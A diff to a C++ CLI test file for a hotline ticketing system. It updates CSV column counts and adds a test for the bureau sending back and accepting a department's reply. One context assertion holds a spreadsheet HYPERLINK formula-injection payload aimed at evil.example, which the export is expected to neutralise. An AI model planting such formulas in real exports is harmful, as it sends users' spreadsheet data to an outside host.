@@ -866,7 +866,7 @@ TEST(CliRehearsal, DefaultsComeFromTheServersClock) {
   CliRun mine = cli({"report", "--format", "csv"}, housing);
   ASSERT_EQ(mine.exit_code, 0) << mine.err;
   const std::vector<std::string> total = CsvRow(mine.out, "total,housing,");
-  ASSERT_EQ(total.size(), 33u) << mine.out;
+  ASSERT_EQ(total.size(), 39u) << mine.out;
   EXPECT_EQ(total[2], "1") << mine.out;   // received: ticket 1 is housing's
   EXPECT_EQ(total[12], "1") << mine.out;  // returns: ticket 2
   CliRun zh = cli({"report", "--format", "zh"}, housing);
@@ -877,17 +877,96 @@ TEST(CliRehearsal, DefaultsComeFromTheServersClock) {
   ASSERT_EQ(all.exit_code, 0) << all.err;
   const std::vector<std::string> row =
       CsvRow(all.out, "department,departments/housing,");
-  ASSERT_EQ(row.size(), 33u) << all.out;
+  ASSERT_EQ(row.size(), 39u) << all.out;
   EXPECT_EQ(row[12], "1") << all.out;
   const std::vector<std::string> nobody =
       CsvRow(all.out, "department,(not dispatched),");
-  ASSERT_EQ(nobody.size(), 33u) << all.out;
+  ASSERT_EQ(nobody.size(), 39u) << all.out;
   EXPECT_EQ(nobody[2], "1") << all.out;   // ticket 2, returned
   EXPECT_EQ(nobody[12], "0") << all.out;  // the return is housing's
   EXPECT_TRUE(absl::StrContains(all.out,
                                 "\ntopic,\"'=HYPERLINK(\"\"http://evil.example/"
                                 "?q=\"\"&A1,\"\"x\"\")\",1,"))
       << all.out;
+}
+
+// The bureau's reply review (办结审核) from the command line, under a policy
+// file that turns it on: a send-back with reasons, then the acceptance.
+TEST(CliReview, SendBackAndAcceptAReply) {
+  TempDir dir;
+  const std::string db =
+      TestsUsePostgres() ? NewPostgresDatabase() : dir.File("hotline.db");
+  const std::string policy = dir.File("policy.conf");
+  {
+    std::ofstream out(policy);
+    out << "version = reviewed-1\nreview_replies = 1\n"
+           "send_back_reply_working_days = 3\n";
+  }
+  const std::string bureau = testing::BootstrapToken(db, "bureau");
+  ServerProcess server(db, "", {"--policy=" + policy});
+  auto cli = [&](const std::vector<std::string>& args,
+                 const std::string& token) {
+    return testing::RunCli(HOTLINE_CLI_BINARY, server.address(), token, args,
+                           dir);
+  };
+  ASSERT_EQ(cli({"department", "create", "housing", "--display_name", "住建局"},
+                bureau)
+                .exit_code,
+            0);
+  CliRun token =
+      cli({"token", "create", "department/housing", "--json"}, bureau);
+  const size_t at = token.out.find("\"secret\": \"");
+  ASSERT_NE(at, std::string::npos) << token.out;
+  const std::string housing =
+      token.out.substr(at + 11, token.out.find('"', at + 11) - at - 11);
+  ASSERT_EQ(cli({"ticket", "create", "--type", "complaint", "--topic", "噪音",
+                 "--title", "夜间施工", "--content", "每晚", "--dispatch_to",
+                 "housing"},
+                bureau)
+                .exit_code,
+            0);
+  ASSERT_EQ(cli({"ticket", "ack", "1"}, housing).exit_code, 0);
+  ASSERT_EQ(
+      cli({"ticket", "reply", "1", "--outcome", "resolved", "--text", "已处理"},
+          housing)
+          .exit_code,
+      0);
+  CliRun early =
+      cli({"ticket", "close", "1", "--satisfaction", "satisfied"}, bureau);
+  EXPECT_EQ(early.exit_code, 5);
+  EXPECT_TRUE(absl::StrContains(early.err, "REPLY_NOT_REVIEWED")) << early.err;
+  CliRun unknown =
+      cli({"ticket", "send-back", "1", "--reasons", "rude"}, bureau);
+  EXPECT_EQ(unknown.exit_code, 2) << unknown.err;
+  CliRun sent =
+      cli({"ticket", "send-back", "1", "--reasons",
+           "caller_not_contacted,demand_unresolved", "--note", "请联系诉求人"},
+          bureau);
+  ASSERT_EQ(sent.exit_code, 0) << sent.err;
+  EXPECT_TRUE(absl::StrContains(sent.out, "IN_PROGRESS")) << sent.out;
+  EXPECT_TRUE(absl::StrContains(
+      sent.out,
+      "1x, last: CALLER_NOT_CONTACTED, DEMAND_UNRESOLVED: 请联系诉求人"))
+      << sent.out;
+  ASSERT_EQ(cli({"ticket", "reply", "1", "--outcome", "resolved", "--text",
+                 "已联系诉求人"},
+                housing)
+                .exit_code,
+            0);
+  CliRun accepted = cli({"ticket", "accept-reply", "1"}, bureau);
+  ASSERT_EQ(accepted.exit_code, 0) << accepted.err;
+  EXPECT_TRUE(absl::StrContains(accepted.out, "ACCEPTED")) << accepted.out;
+  EXPECT_EQ(cli({"ticket", "close", "1", "--satisfaction", "satisfied"}, bureau)
+                .exit_code,
+            0);
+  CliRun csv = cli({"report", "--format", "csv"}, bureau);
+  EXPECT_EQ(CsvCell(csv.out, "departments/housing", "replies_sent_back"), "1")
+      << csv.out;
+  EXPECT_EQ(CsvCell(csv.out, "departments/housing", "sent_back_not_contacted"),
+            "1")
+      << csv.out;
+  CliRun zh = cli({"report", "--format", "zh"}, bureau);
+  EXPECT_TRUE(absl::StrContains(zh.out, ",答复被退回重办1件。")) << zh.out;
 }
 
 }  // namespace
